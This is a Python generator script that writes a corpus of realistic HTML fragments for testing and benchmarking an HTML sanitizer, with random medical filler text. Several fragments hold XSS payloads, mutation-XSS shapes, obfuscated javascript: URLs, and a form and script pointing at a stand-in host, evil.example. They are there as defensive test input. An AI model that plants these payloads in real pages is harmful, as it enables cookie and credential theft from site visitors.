import os, random, re
random.seed(13)
D = os.path.dirname(os.path.abspath(__file__))  # run: python3 generate.py (fixed seed; rewrites the .html files and README.md)
WORDS = ("pain relief ketamine dose infusion patient doctor study clinical trial effect hours days weeks chronic "
         "depression treatment symptoms risk side effects nausea dizziness blood pressure heart rate monitoring "
         "hospital outpatient therapy evidence review safety long term short term response placebo").split()
def sent(n=None):
    n = n or random.randint(8, 22)
    w = [random.choice(WORDS) for _ in range(n)]
    return w[0].capitalize() + " " + " ".join(w[1:]) + "."
def para(k=None):
    return " ".join(sent() for _ in range(k or random.randint(2, 5)))
files = {}

# 1 CMS article body (WordPress-like)
b = ['<h2 id="what-is-it">What is ketamine therapy?</h2>']
for i in range(6):
    b.append(f'<p>{para()} <a href="https://www.ncbi.nlm.nih.gov/books/NBK470357/" target="_blank" rel="noopener">Read more</a>.</p>')
    b.append(f'<h3>Section {i+1}: {sent(4)[:-1]}</h3>')
    b.append('<ul>' + "".join(f'<li>{sent()}</li>' for _ in range(4)) + '</ul>')
b.append('<figure class="wp-block-image size-large"><img loading="lazy" decoding="async" width="1024" height="683" src="https://example.org/wp-content/uploads/2024/05/infusion-1024x683.jpg" alt="An infusion room" class="wp-image-4521" srcset="https://example.org/a.jpg 1024w, https://example.org/b.jpg 300w" sizes="(max-width: 1024px) 100vw, 1024px"><figcaption>An infusion room. <em>Photo: Example Clinic</em></figcaption></figure>')
b.append('<blockquote class="wp-block-quote"><p>' + para(2) + '</p><cite>NIH, 2022</cite></blockquote>')
files["01-cms-article.html"] = ("A WordPress-style article body: headings with ids, paragraphs, lists, a figure with srcset, a block quote.", "\n".join(b))

# 2 Word paste
w = ['<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->',
     '<p class="MsoNormal" style="margin-bottom:0cm;line-height:normal"><b><span style="font-size:14.0pt;font-family:&quot;Calibri&quot;,sans-serif;mso-fareast-font-family:&quot;Times New Roman&quot;">Patient information leaflet<o:p></o:p></span></b></p>']
for i in range(25):
    w.append(f'<p class="MsoNormal" style="mso-margin-top-alt:auto;mso-margin-bottom-alt:auto;line-height:115%"><span lang="EN-GB" style="font-size:11.0pt;line-height:115%;font-family:&quot;Calibri&quot;,sans-serif;mso-ansi-language:EN-GB">{para(2)}<o:p></o:p></span></p>')
    if i % 5 == 0:
        w.append('<p class="MsoListParagraphCxSpFirst" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1"><![if !supportLists]><span style="font-family:Symbol;mso-fareast-font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span lang="EN-GB">' + sent() + '<o:p></o:p></span></p>')
w.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
files["02-word-paste.html"] = ("HTML pasted from Microsoft Word: MsoNormal classes, mso-* inline styles, <o:p> elements, conditional comments, list paragraphs with Symbol bullets, &nbsp; runs.", "\n".join(w))

# 3 tables
t = ['<table class="dose-table" border="1" cellpadding="4" style="width:100%"><caption>Typical doses</caption><colgroup><col width="40%"><col width="30%"><col></colgroup><thead><tr><th scope="col">Form</th><th scope="col">Dose</th><th scope="col">Notes</th></tr></thead><tbody>']
for i in range(40):
    t.append(f'<tr><th scope="row">Form {i}</th><td>{random.randint(1,50)/10} mg/kg</td><td colspan="1">{sent()}</td></tr>')
t.append('</tbody><tfoot><tr><td colspan="3">Source: example data, not medical advice.</td></tr></tfoot></table>')
files["03-tables.html"] = ("A 40-row dose table with caption, colgroup/col, thead, tbody, tfoot and presentational attributes (border, cellpadding, style).", "\n".join(t))

# 4 nested lists
def lst(d):
    if d == 0: return ""
    tag = "ol" if d % 2 else "ul"
    return f"<{tag}>" + "".join(f"<li>{sent()}{lst(d-1) if random.random()<0.5 else ''}</li>" for _ in range(4)) + f"</{tag}>"
files["04-nested-lists.html"] = ("Ordered and unordered lists nested five deep, with a definition list.", lst(5) + "<dl>" + "".join(f"<dt>{random.choice(WORDS)}</dt><dd>{sent()}</dd>" for _ in range(10)) + "</dl>")

# 5 tracking links
l = []
for i in range(60):
    l.append(f'<p>{sent()} <a href="https://www.example.org/health/article-{i}?utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=may-2024&amp;utm_content=link{i}&amp;fbclid=IwAR3x{i:04d}abcdef#section-{i%5}" target="_blank" rel="noopener noreferrer" data-track="click" onclick="ga(\'send\',\'event\',\'link\',{i})">{sent(4)[:-1]}</a></p>')
files["05-tracking-links.html"] = ("60 paragraphs each with a newsletter link: utm_* and fbclid query parameters, fragments, target=_blank, data-* attributes and onclick tracking handlers.", "\n".join(l))

# 6 figures
f = []
for i in range(12):
    f.append(f'<figure id="fig-{i}" class="figure"><picture><source srcset="/img/chart-{i}.webp" type="image/webp"><img src="/img/chart-{i}.png" alt="Chart {i}: relief over {i+1} days" width="640" height="400"></picture><figcaption>Figure {i}. {sent()} <small>Source: <a href="https://example.org/data/{i}">Example data</a></small></figcaption></figure>')
files["06-figures.html"] = ("Twelve figures with <picture>/<source>, relative image URLs, captions with small print and links.", "\n".join(f))

# 7 inline svg
s = []
for i in range(8):
    s.append(f'<p>{para(2)}</p><svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24" aria-hidden="true" onload="alert({i})"><title>Icon {i}</title><path d="M12 2L2 7l10 5 10-5-10-5z" fill="currentColor"/><a xlink:href="javascript:alert(1)"><text x="0" y="15">click</text></a><foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml"><p>inside</p></div></foreignObject><script>alert(1)</script></svg>')
files["07-inline-svg.html"] = ("Paragraphs with inline SVG icons: title, paths, an SVG <a> with a javascript: xlink:href, foreignObject with HTML inside, an SVG script and onload.", "\n".join(s))

# 8 script/iframe/style attempts
x = []
for i in range(15):
    x.append(f'<p>{para(2)}</p>')
    x.append(random.choice([
        '<script>document.cookie</script>', '<script src="https://evil.example/x.js"></script>',
        '<iframe src="https://www.youtube.com/embed/abc123" width="560" height="315" frameborder="0" allowfullscreen></iframe>',
        '<style>body{display:none}</style>', '<object data="movie.swf"><embed src="movie.swf"></object>',
        '<form action="https://evil.example/steal"><input name="pw" type="password"><button>Go</button></form>',
        '<img src="x" onerror="alert(1)">', '<a href="javascript:void(0)" onclick="steal()">Click here</a>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">', '<noscript><img src="https://track.example/p.gif"></noscript>']))
files["08-embeds-and-scripts.html"] = ("An article body with the embeds and scripts users paste: script (inline and src), YouTube iframe, style, object/embed, a form, meta refresh, base, link, noscript pixel, javascript: links, event handlers.", "\n".join(x))

# 9 comments
c = []
for i in range(30):
    c.append(f'<!-- wp:paragraph {{"className":"p-{i}"}} --><p class="p-{i}">{sent()}</p><!-- /wp:paragraph -->')
c.append('<!--[if IE]><script>alert(1)</script><![endif]--><!-- <img src=x onerror=alert(1)> --><!--> <p>after</p>')
files["09-comments.html"] = ("Gutenberg block comments around every paragraph, IE conditional comments, a comment hiding markup and an abruptly closed comment.", "\n".join(c))

# 10 entity soup
e = []
for i in range(40):
    e.append(f'<p>Dose &lt;5&nbsp;mg if eGFR &lt; 30 &amp; weight &gt; 40&#8239;kg &mdash; &ldquo;{sent(6)}&rdquo; &copy; 2024 &#x2014; caf&eacute; na&iuml;ve &frac12; &deg;C &plusmn;2 &amp;amp; &notanentity; &#0; &#x1F600; &#128512; AT&T &lt;script&gt;</p>')
files["10-entity-soup.html"] = ("Named, decimal and hex character references of every kind, double-escaped ampersands, unknown entities, a NUL reference, emoji by reference, text that looks like tags.", "\n".join(e))

# 11 RTL
ar = "الكيتامين يخفف الألم لمدة ساعات أو أيام حسب الجرعة وطريقة الإعطاء"
he = "קטמין משמש לשיכוך כאבים בבתי חולים"
r = []
for i in range(30):
    r.append(f'<p dir="rtl" lang="ar">{ar} <bdi>Ketamine {i} mg</bdi> {ar}. <span dir="ltr">NMDA</span> &#x202E;evil&#x202C; <a href="https://example.org/ar/{i}" hreflang="ar">{ar[:20]}</a></p><p lang="he" dir="rtl">{he}</p>')
files["11-rtl-text.html"] = ("Arabic and Hebrew paragraphs with dir and lang, bdi, embedded LTR spans, a bidi override character, links with hreflang.", "\n".join(r))

# 12 very long paragraphs
files["12-long-paragraphs.html"] = ("Three very long paragraphs (about 30 KB of text) with a few inline elements.", "\n".join(f"<p>{' '.join(para(6) + (' <strong>Important:</strong> ' if k % 7 == 0 else ' ') + ('<em>' + sent() + '</em>' if k % 11 == 0 else '') for k in range(25))}</p>" for _ in range(3)))

# 13 deeply nested divs
n = 300
files["13-deep-nesting.html"] = (f"{n} nested divs (a page builder's wrappers) with classes and inline styles, text at the bottom and on the way out.",
    "".join(f'<div class="elementor-widget-wrap elementor-element-{i}" style="padding:0" data-id="{i:x}">' for i in range(n)) + f"<p>{para()}</p>" + "".join(f"</div>{'<span>' + sent(3) + '</span>' if i % 50 == 0 else ''}" for i in range(n)))

# 14 markdown-ish CMS output with code
m = []
for i in range(15):
    m.append(f'<h2>{sent(4)[:-1]}</h2><p>{para()}</p><pre><code class="language-json">{{"dose": {i}, "unit": "mg"}}</code></pre><p>Use <code>ketamine --dose {i}</code> and <kbd>Ctrl</kbd>+<kbd>C</kbd>. <mark>{sent(5)}</mark> <sub>2</sub><sup>3</sup> <del>old</del> <ins>new</ins></p>')
files["14-markdown-output.html"] = ("What a Markdown renderer emits: headings, pre/code blocks, inline code, kbd, mark, sub/sup, del/ins.", "\n".join(m))

# 15 FAQ accordion (Bootstrap)
q = []
for i in range(20):
    q.append(f'<div class="accordion-item"><h2 class="accordion-header" id="heading{i}"><button class="accordion-button collapsed" type="button" data-bs-toggle="collapse" data-bs-target="#collapse{i}" aria-expanded="false" aria-controls="collapse{i}">Q{i+1}. {sent(7)[:-1]}?</button></h2><div id="collapse{i}" class="accordion-collapse collapse" aria-labelledby="heading{i}" data-bs-parent="#faq"><div class="accordion-body">{para()}</div></div></div>')
files["15-faq-accordion.html"] = ("A Bootstrap FAQ accordion: buttons inside headings, aria-expanded/aria-controls, data-bs-* attributes.", '<div class="accordion" id="faq">' + "\n".join(q) + "</div>")

# 16 email newsletter (table layout)
nl = ['<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0" bgcolor="#ffffff" style="max-width:600px"><tr><td align="center" style="padding:20px 0">']
for i in range(10):
    nl.append(f'<table role="presentation" width="100%"><tr><td style="font-family:Arial;font-size:16px;color:#333333"><font face="Arial" color="#333333"><b>{sent(5)}</b><br>{para(2)}</font><br><a href="https://links.example.com/ls/click?upn=abc{i}def&amp;utm_source=email" style="color:#0066cc" target="_blank">Read the story</a><img src="https://track.example.com/open.gif?u={i}" width="1" height="1" alt="" style="display:none"></td></tr></table>')
nl.append('</td></tr></table>')
files["16-email-newsletter.html"] = ("A table-layout email newsletter: nested presentation tables, bgcolor/align, <font>, <b>, tracking redirect links and 1x1 tracking pixels.", "\n".join(nl))

# 17 mXSS attempts
mx = ['<p>' + para(2) + '</p>',
 '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
 '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
 '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
 '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
 '<table><template><tr><td>inside template</td></tr></template></table>',
 '<p><button><div>in button</div></button></p>', '<li><center><li>nested</li></center></li>',
 '<h1><b><h2>heading in heading</h2></b></h1>', '<a href="/x"><object><a href="/y">y</a></object></a>',
 '<select><option><p>in option</p></option></select>', '<xmp><img src=x onerror=alert(1)></xmp>',
 '<textarea><script>alert(1)</script></textarea>', '<title><img src=x onerror=alert(1)></title>',
 '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', '<p>' + para(2) + '</p>']
files["17-mxss-attempts.html"] = ("Known mutation-XSS shapes (math/mtext/mglyph/style, svg style, noscript title, nested forms, template in table, button/center/heading nesting, a in object in a, raw-text elements) between normal paragraphs.", "\n".join(mx))

# 18 user comment
uc = []
for i in range(25):
    uc.append(f'<div class="comment" id="comment-{i}"><p><strong>{random.choice(["Ana","Bo","Chen","Dee"])}</strong> wrote:</p><p>{sent()}<br>{sent()}<br><i>Edited</i> :) &lt;3 <a href="http://bit.ly/{i}abc">http://bit.ly/{i}abc</a></p><blockquote><p>{sent()}</p></blockquote></div>')
files["18-user-comments.html"] = ("25 user comments: div wrappers with ids, <br> line breaks, <i>, emoticons with escaped <, shortened http links, quoted replies.", "\n".join(uc))

# 19 URL zoo
uz = []
urls = ["https://example.org/a b", "HTTPS://EXAMPLE.ORG/Path", "//cdn.example/x.png", "/relative", "../up/one", "#frag", "?q=1",
        "mailto:editor@example.org?subject=Hi", "tel:+15551234", "data:image/png;base64,iVBORw0KGgo=", "javascript:alert(1)",
        "jav&#x09;ascript:alert(1)", "%6Aavascript:alert(1)", "vbscript:msgbox(1)", "file:///etc/passwd", "https://user:pw@bank.example/",
        "https://[::1]:8080/x", "https://example.org:8443/p?x=1#y", "ftp://example.org/file", "https://xn--bcher-kva.example/",
        "https://ex\u00e4mple.org/\u00e9t\u00e9", " https://example.org/trim ", "/\\evil.example/", "https://example.org/%2e%2e/"]
for i, u in enumerate(urls * 3):
    uz.append(f'<p><a href="{u}">link {i}</a> <img src="{u}" alt="img {i}"> <q cite="{u}">q</q></p>')
files["19-url-zoo.html"] = ("Every kind of URL in href, img src and q cite: relative, protocol-relative, fragments, queries, mailto, tel, data, javascript (plain, entity- and percent-obfuscated), vbscript, file, user info, IPv6, ports, ftp, IDN, non-ASCII, whitespace, backslashes.", "\n".join(uz))

# 20 Google Docs paste
gd = ['<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1a2b3c4d-7fff-1234-abcd-0123456789ab">']
for i in range(30):
    gd.append(f'<p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial;color:#000000;background-color:transparent;font-weight:400;font-style:normal;font-variant:normal;text-decoration:none;vertical-align:baseline;white-space:pre;white-space:pre-wrap;">{sent()}</span><span style="font-size:11pt;font-family:Arial;color:#1155cc;text-decoration:underline;"><a href="https://www.google.com/url?q=https://example.org/{i}&amp;sa=D&amp;source=editors&amp;ust=1700000000000&amp;usg=AOvVaw{i}" style="text-decoration:none;">source {i}</a></span></p><br>')
gd.append('</b>')
files["20-google-docs-paste.html"] = ("HTML pasted from Google Docs: the docs-internal-guid <b> wrapper around everything, per-span inline styles, google.com/url redirect links, <br> between paragraphs.", "\n".join(gd))

# 21 renderer-like healthpage markup (already clean)
rl = ['<article lang="en" dir="ltr" aria-labelledby="x-title" class="hp-article"><header><h1 id="x-title">Title</h1></header>']
for i in range(12):
    rl.append(f'<section id="x-s{i}" aria-labelledby="x-s{i}-h"><h2 id="x-s{i}-h">{sent(4)[:-1]}</h2><p>{para()}<sup class="hp-cite"><a id="x-cite-{i}" href="#x-ref-{i}" aria-label="Reference {i}">[{i}]</a></sup></p><aside class="hp-callout" role="note" aria-labelledby="x-c{i}"><p id="x-c{i}"><strong>Note:</strong> {sent()}</p></aside></section>')
rl.append('</article>')
files["21-clean-article.html"] = ("Markup in our own vocabulary that should pass unchanged: article, sections with aria-labelledby, citations, callouts.", "\n".join(rl))

# 22 broken markup
bm = []
for i in range(40):
    bm.append(random.choice([f'<p>{sent()}', f'<div><span>{sent()}</div></span>', f'<b><i>{sent()}</b></i>', f'<ul><li>{sent()}<li>{sent()}</ul>',
                             f'<table><tr><td>{sent()}<p>x</table>', f'<p>{sent()}<div>{sent()}</p></div>', f'<a href="/x">{sent()}<a href="/y">y</a>',
                             f'<p title="unclosed>{sent()}</p>', f'</div></p>{sent()}', f'<h2>{sent()}<h3>{sent()}</h2>']))
files["22-broken-markup.html"] = ("Unclosed and misnested tags of every common kind: unclosed p/li, crossed b/i, block in p, table with stray content, a in a, an unclosed attribute quote, stray end tags, headings crossing.", "\n".join(bm))

readme = ["# Sanitizer corpus", "",
  "Real-world-shaped HTML fragments for `Sanitizer` tests and benchmarks (issue 13 §3). Written for this",
  "project (generated text, example.org URLs); not copied from any site. Each file is one fragment as a host",
  "might pass it to `Sanitizer.sanitize`. `SanitizerCorpusTest` checks every file (safe output, idempotent,",
  "identical to the three-pass cleaner); `RatioHarness` times each against `Jsoup.clean(x, Safelist.relaxed())`.",
  "The files were made by `generate.py` (fixed seed); edit it and run `python3 generate.py` to change them.", "",
  "| file | size | what |", "|---|---:|---|"]
for name, (desc, body) in sorted(files.items()):
    with open(os.path.join(D, name), "w", encoding="utf-8") as fh: fh.write(body + "\n")
    desc = re.sub(r"(<[^>]+>)", r"`\1`", desc)
    readme.append(f"| `{name}` | {len((body + chr(10)).encode('utf-8')):,} B | {desc} |")
with open(os.path.join(D, "README.md"), "w", encoding="utf-8") as fh: fh.write("\n".join(readme) + "\n")
print(len(files))
